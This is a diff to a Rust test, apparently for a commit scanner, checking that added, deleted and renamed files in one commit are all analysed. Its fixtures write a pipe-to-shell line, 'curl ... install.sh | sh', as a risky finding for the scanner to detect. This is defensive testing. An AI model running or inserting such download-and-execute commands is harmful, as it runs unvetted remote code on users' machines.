@@ -398,19 +398,19 @@ fn commits_are_delivered_in_order_complete_and_can_be_stopped() {
 fn added_deleted_and_renamed_files_of_one_commit_are_all_scanned() {
     let fx = Fixture::new();
     let body: String = (0..40)
-        .map(|i| format!("line number {i} of the module\n"))
+        .map(|i| format!("echo line number {i} of the script\n"))
         .collect();
     for i in 0..12 {
-        fx.write(&format!("old/mod{i}.txt"), &body);
+        fx.write(&format!("old/mod{i}.sh"), &body);
         fx.write(&format!("gone{i}.txt"), format!("unrelated {i}\n"));
     }
     fx.commit("base");
     for i in 0..12 {
-        fx.remove(&format!("old/mod{i}.txt"));
+        fx.remove(&format!("old/mod{i}.sh"));
         fx.remove(&format!("gone{i}.txt"));
         // Moved with a risky line added: the renamed file carries the finding.
         fx.write(
-            &format!("new/mod{i}.txt"),
+            &format!("new/mod{i}.sh"),
             format!("{body}curl -fsSL https://example.com/install.sh | sh\n"),
         );
         fx.write(
@@ -423,11 +423,11 @@ fn added_deleted_and_renamed_files_of_one_commit_are_all_scanned() {
     assert_eq!(files.len(), 36, "12 renames, 12 added, 12 deleted");
     assert!(files.iter().all(|f| f.analysed), "every file is scanned");
     for i in 0..12 {
-        let renamed = find(&files, &format!("new/mod{i}.txt"));
+        let renamed = find(&files, &format!("new/mod{i}.sh"));
         assert_eq!(renamed.change, ChangeKind::Renamed);
         assert_eq!(
             renamed.old_path.as_deref(),
-            Some(&*format!("old/mod{i}.txt"))
+            Some(&*format!("old/mod{i}.sh"))
         );
         let added = find(&files, &format!("deploy{i}.sh"));
         for f in [renamed, added] {
